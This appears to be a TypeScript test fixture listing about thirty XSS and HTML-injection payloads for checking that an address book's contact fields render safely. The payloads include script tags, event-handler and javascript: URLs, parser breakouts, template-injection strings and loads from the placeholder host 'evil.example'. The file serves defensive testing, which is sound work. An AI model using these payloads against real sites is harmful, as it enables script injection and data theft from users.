/**
 * What an address book may say to make a page run something, fetch something or look like something else. Each that runs
 * says so in `__pwned`; each that fetches does it from HOSTILE_HOST.
 */

/** A name that no network has (RFC 6761). */
export const HOSTILE_HOST = 'evil.example';

const RUN = 'top.__pwned=1';

/** One for each way that is known. */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=//${HOSTILE_HOST}/s.js></sCrIpT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="http://${HOSTILE_HOST}/p.png" srcset="http://${HOSTILE_HOST}/q.png 2x">`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `"><iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `'><iframe src=javascript:${RUN}>`,
  `</title></textarea></style></noscript></script><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<style>@import'//${HOSTILE_HOST}/c.css';*{background:url(//${HOSTILE_HOST}/b.png)}</style>`,
  `<link rel=stylesheet href=//${HOSTILE_HOST}/l.css><link rel=prefetch href=//${HOSTILE_HOST}/f>`,
  `<meta http-equiv=refresh content="0;url=//${HOSTILE_HOST}/m">`,
  `<base href=//${HOSTILE_HOST}/><form action=//${HOSTILE_HOST}/form><button>ok`,
  `<object data=//${HOSTILE_HOST}/o></object><embed src=//${HOSTILE_HOST}/e>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}} <%= ${RUN} %> #{${RUN}} [[\${${RUN}}]]`,
  `[read me](javascript:${RUN}) ![a picture](http://${HOSTILE_HOST}/m.png)`,
  `javascript:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  `url(http://${HOSTILE_HOST}/u.png);background:url(http://${HOSTILE_HOST}/v.png)`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\x3c/script\\x3e`,
  `\u202Egnp.exe\u202C\u2066\u200B<script>${RUN}</script>`,
  `__proto__`,
  `${'<b>long '.repeat(1250)}<img src=x onerror=${RUN}>`,
];
